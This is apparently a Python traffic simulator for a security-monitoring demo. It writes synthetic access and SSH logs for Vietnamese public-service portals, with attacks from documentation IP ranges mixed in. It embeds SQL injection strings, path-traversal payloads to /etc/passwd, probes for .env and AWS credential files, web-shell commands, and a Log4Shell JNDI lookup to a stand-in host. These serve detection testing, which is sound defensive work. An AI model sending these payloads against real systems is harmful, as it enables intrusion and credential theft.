"""Realistic traffic for the demo: citizens using portals, with attacks mixed in.

Citizens come from carrier-grade NAT space (100.64.0.0/10, as mobile users in Vietnam do); attackers
from the documentation ranges (RFC 5737), so no real network is ever named as an attacker.
"""

from __future__ import annotations

import random
import threading
from collections.abc import Callable
from dataclasses import dataclass
from datetime import datetime, timedelta
from pathlib import Path
from urllib.parse import quote

from canhgac.core.model import utcnow
from canhgac.core.timeutil import VIETNAM

SEARCHES = ["đăng ký khai sinh", "cấp đổi giấy phép lái xe", "đăng ký hộ kinh doanh", "chứng thực bản sao",
            "cấp phiếu lý lịch tư pháp", "đăng ký thường trú", "cấp giấy chứng nhận quyền sử dụng đất",
            "trợ cấp thất nghiệp", "đăng ký kết hôn", "cấp giấy phép xây dựng"]
AGENTS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/18.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; SM-A556E) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0 Mobile "
    "Safari/537.36 Zalo android/12100",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.0 "
    "Safari/605.1.15",
]
SQLI = ["' UNION SELECT username,password FROM nguoi_dung--", "1' OR '1'='1", "1; WAITFOR DELAY '0:0:5'--",
        "1' AND SLEEP(5)--", "' UNION SELECT table_name FROM information_schema.tables--"]
TRAVERSAL = ["../../../../etc/passwd", "..%2f..%2f..%2f..%2fetc%2fpasswd", "....//....//windows/win.ini"]
PROBES = ["/.env", "/.git/config", "/backup.zip", "/web.config", "/wp-admin/", "/phpmyadmin/", "/admin/login",
          "/db.sql", "/.aws/credentials", "/server-status"]
SCANNERS = ["Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:map_codes)", "sqlmap/1.8.11#stable (https://sqlmap.org)",
            "Mozilla/5.0 zgrab/0.x", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"]


@dataclass(frozen=True)
class Portal:
    system: str
    path: Path


@dataclass(frozen=True)
class Attack:
    """One attack the simulator wrote: what the detection should turn into an incident of its system's agency."""

    kind: str  # sqli, traversal, scanner, ssh, flood, record_walk, webshell, log4shell
    source_ip: str | None  # None for the flood, which comes from many addresses
    system: str | None  # the portal written to; None for the SSH attempts (the auth log)
    at: datetime


#: The headline attacks come from addresses the random attackers never use (their last byte is 2-250), so
#: each stays its own incident.
HEADLINE_ADDRESSES = {"record_walk": "203.0.113.1", "webshell": "198.51.100.1", "log4shell": "192.0.2.1"}


def _clf_time(moment: datetime) -> str:
    local = moment.astimezone(VIETNAM)
    return local.strftime("%d/%b/%Y:%H:%M:%S +0700")


class TrafficSimulator:
    def __init__(self, portals: list[Portal], auth_log: Path, *, seed: int = 7, rate: float = 4.0,
                 clock: Callable[[], datetime] = utcnow) -> None:
        self.portals = portals
        self.auth_log = auth_log
        self.random = random.Random(seed)
        self.rate = rate  # citizen requests per second per portal
        self.clock = clock
        self.attacks: list[Attack] = []  # every attack written, in order

    # one line -----------------------------------------------------------------------------------
    def citizen_ip(self) -> str:
        r = self.random
        return f"100.{r.randint(64, 127)}.{r.randint(0, 255)}.{r.randint(1, 254)}"

    def attacker_ip(self) -> str:
        return self.random.choice(["203.0.113.", "198.51.100.", "192.0.2."]) + str(self.random.randint(2, 250))

    def access_line(self, at: datetime, ip: str, method: str, target: str, status: int, agent: str,
                    size: int | None = None, referrer: str = "-") -> str:
        size = size if size is not None else self.random.randint(300, 48_000)
        return f'{ip} - - [{_clf_time(at)}] "{method} {target} HTTP/1.1" {status} {size} "{referrer}" "{agent}"\n'

    def citizen_line(self, at: datetime) -> str:
        r = self.random
        pick = r.random()
        if pick < 0.3:
            target = f"/thu-tuc-hanh-chinh/tra-cuu?tu_khoa={quote(r.choice(SEARCHES))}&trang={r.randint(1, 5)}"
        elif pick < 0.45:
            target = f"/ho-so/tra-cuu?ma_ho_so=000.00.{r.randint(10, 99)}.H08-{at:%y%m%d}-{r.randint(1, 9999):04d}"
        elif pick < 0.55:
            target = f"/dich-vu-cong/nop-ho-so?ma_thu_tuc=1.00{r.randint(1000, 9999)}"
        elif pick < 0.62:
            return self.access_line(at, self.citizen_ip(), "POST", "/dang-nhap", r.choice([302, 302, 302, 401]),
                                    r.choice(AGENTS))
        elif pick < 0.9:
            target = r.choice(["/static/css/main.css", "/static/js/app.js", "/images/quoc-huy.png",
                               "/favicon.ico"])
        else:
            target = r.choice(["/", "/p/home/dvc-trang-chu.html", "/api/thong-ke/ho-so?nam=2026"])
        status = 404 if r.random() < 0.01 else 200
        return self.access_line(at, self.citizen_ip(), "GET", target, status, r.choice(AGENTS))

    # attacks --------------------------------------------------------------------------------------
    def attack_lines(self, at: datetime) -> tuple[str, list[str]]:
        """One attack burst: which kind, and its lines (access-log lines, or auth-log lines for SSH)."""
        kind, _, lines = self._attack(at)
        return kind, lines

    def _attack(self, at: datetime) -> tuple[str, str, list[str]]:
        r = self.random
        kind = r.choice(["sqli", "traversal", "scanner", "ssh"])
        ip = self.attacker_ip()
        lines: list[str] = []
        if kind == "sqli":
            for n in range(r.randint(2, 6)):
                payload = quote(r.choice(SQLI))
                lines.append(self.access_line(at + timedelta(milliseconds=300 * n), ip, "GET",
                                              f"/thu-tuc-hanh-chinh/tra-cuu?tu_khoa={payload}", 500, AGENTS[0]))
        elif kind == "traversal":
            for n in range(r.randint(1, 4)):
                lines.append(self.access_line(at + timedelta(milliseconds=200 * n), ip, "GET",
                                              f"/tai-lieu/tai-ve?tep={r.choice(TRAVERSAL)}", 400, AGENTS[3]))
        elif kind == "scanner":
            agent = r.choice(SCANNERS)
            for n, probe in enumerate(r.sample(PROBES, 6)):
                lines.append(self.access_line(at + timedelta(milliseconds=100 * n), ip, "GET", probe, 404, agent))
        else:
            local = at.astimezone(VIETNAM)
            stamp = f"{local:%b} {local.day:2d} {local:%H:%M:%S}"
            for n in range(r.randint(8, 20)):
                user = r.choice(["root", "admin", "oracle", "ubuntu", "quantri"])
                invalid = "" if user == "root" else "invalid user "
                lines.append(f"{stamp} dvc-web01 sshd[{2000 + n}]: Failed password for {invalid}{user} "
                             f"from {ip} port {r.randint(30000, 65000)} ssh2\n")
        return kind, ip, lines

    def flood_lines(self, at: datetime, count: int, seconds: int = 60) -> list[str]:
        """A request flood from many addresses over the ``seconds`` before ``at``: what the anomaly detector
        should notice."""
        span = seconds * 1000
        return [self.access_line(at - timedelta(milliseconds=span - i * span // count), self.attacker_ip(), "GET",
                                 "/thu-tuc-hanh-chinh/tra-cuu?tu_khoa=a", self.random.choice([200, 503, 503]),
                                 AGENTS[0]) for i in range(count)]

    # the headline attacks: one of each thing the demo should show --------------------------------------
    def record_walk_lines(self, at: datetime, ip: str, count: int = 40) -> list[str]:
        """Dossier codes looked up one after another, each answered: other citizens' records read."""
        day = at.astimezone(VIETNAM)
        return [self.access_line(at - timedelta(seconds=1.5 * (count - n)), ip, "GET",
                                 f"/ho-so/tra-cuu?ma_ho_so=000.00.31.H22-{day:%y%m%d}-{1200 + n:04d}", 200,
                                 AGENTS[2], size=self.random.randint(3_000, 6_000)) for n in range(count)]

    def webshell_lines(self, at: datetime, ip: str) -> list[str]:
        """A PHP file uploaded as a "photo", then run with commands: the attacker controls the server."""
        shell = "/uploads/2026/anh-the-cong-dan.php"
        steps = [("POST", "/dich-vu-cong/nop-ho-so/tai-len", 200), ("GET", f"{shell}?cmd=id", 200),
                 ("GET", f"{shell}?cmd=cat%20/etc/passwd", 200), ("GET", f"{shell}?cmd=ls%20-la%20/var/www", 200)]
        return [self.access_line(at - timedelta(seconds=4 * (len(steps) - n)), ip, method, target, status, AGENTS[1])
                for n, (method, target, status) in enumerate(steps)]

    def log4shell_lines(self, at: datetime, ip: str) -> list[str]:
        """JNDI lookups in the query and the user agent (CVE-2021-44228)."""
        lookup = f"${{jndi:ldap://{ip}:1389/Exploit}}"
        return [self.access_line(at - timedelta(seconds=2), ip, "GET",
                                 f"/thu-tuc-hanh-chinh/tra-cuu?tu_khoa={quote(lookup)}", 400, lookup),
                self.access_line(at, ip, "GET", "/", 200, lookup)]

    def headline(self, at: datetime, *, breach: Portal, serious: Portal, critical: Portal) -> dict[str, Attack]:
        """Write one dossier walk (a personal-data breach), one web shell (on the portal whose incident is to be
        serious) and one Log4Shell probe (critical); the attacks by kind."""
        written = {}
        for kind, portal, make in (("record_walk", breach, self.record_walk_lines),
                                   ("webshell", serious, self.webshell_lines),
                                   ("log4shell", critical, self.log4shell_lines)):
            ip = HEADLINE_ADDRESSES[kind]
            with portal.path.open("a", encoding="utf-8") as out:
                out.writelines(make(at, ip))
            written[kind] = Attack(kind, ip, portal.system, at)
            self.attacks.append(written[kind])
        return written

    # writing ----------------------------------------------------------------------------------------
    def backfill(self, minutes: int, *, flood: bool = False) -> int:
        """Write the last ``minutes`` of ordinary traffic (with a few attacks), oldest first. With ``flood``,
        the first portal also had a request flood inside the minute that began two minutes ago: an anomaly
        the detector finds on its first run, against the history before it."""
        now = self.clock()
        written = 0
        # From a minute's start: a first window only partly filled would look like a quiet outlier to the model.
        begin = (now - timedelta(minutes=minutes)).replace(second=0, microsecond=0)
        for index, portal in enumerate(self.portals):
            lines = []
            moment = begin
            while moment < now - timedelta(seconds=1):
                lines.append(self.citizen_line(moment))
                moment += timedelta(seconds=self.random.expovariate(self.rate))
            if flood and index == 0:
                minute = (now - timedelta(minutes=2)).replace(second=0, microsecond=0)
                lines += self.flood_lines(minute + timedelta(seconds=45), int(self.rate * 60 * 25), seconds=40)
                lines.sort(key=_line_time)
                self.attacks.append(Attack("flood", None, portal.system, minute))
            with portal.path.open("a", encoding="utf-8") as out:
                out.writelines(lines)
            written += len(lines)
        for _ in range(3):
            written += self._write_attack(now - timedelta(seconds=self.random.randint(5, 60)))
        return written

    def run(self, stop: threading.Event, *, attack_every: float = 6.0, flood_after: float = 75.0) -> None:
        """Write live traffic until ``stop`` is set: citizens continuously, an attack every few seconds,
        and one flood on the first portal ``flood_after`` seconds in."""
        started = self.clock()
        next_attack = started + timedelta(seconds=2)
        flooded = False
        while not stop.wait(1.0):
            now = self.clock()
            for portal in self.portals:
                count = max(0, round(self.random.gauss(self.rate, self.rate ** 0.5)))
                lines = [self.citizen_line(now - timedelta(milliseconds=self.random.randint(0, 999)))
                         for _ in range(count)]
                with portal.path.open("a", encoding="utf-8") as out:
                    out.writelines(sorted(lines, key=lambda line: line.split("[", 1)[1][:26]))
            if now >= next_attack:
                self._write_attack(now)
                next_attack = now + timedelta(seconds=self.random.uniform(0.5, 1.5) * attack_every)
            if not flooded and now - started >= timedelta(seconds=flood_after):
                with self.portals[0].path.open("a", encoding="utf-8") as out:
                    out.writelines(self.flood_lines(now, int(self.rate * 60 * 25)))
                self.attacks.append(Attack("flood", None, self.portals[0].system, now))
                flooded = True

    def _write_attack(self, at: datetime) -> int:
        kind, ip, lines = self._attack(at)
        portal = None if kind == "ssh" else self.random.choice(self.portals)
        with (self.auth_log if portal is None else portal.path).open("a", encoding="utf-8") as out:
            out.writelines(lines)
        self.attacks.append(Attack(kind, ip, portal.system if portal else None, at))
        return len(lines)


def _line_time(line: str) -> datetime:
    return datetime.strptime(line.split("[", 1)[1][:26], "%d/%b/%Y:%H:%M:%S %z")
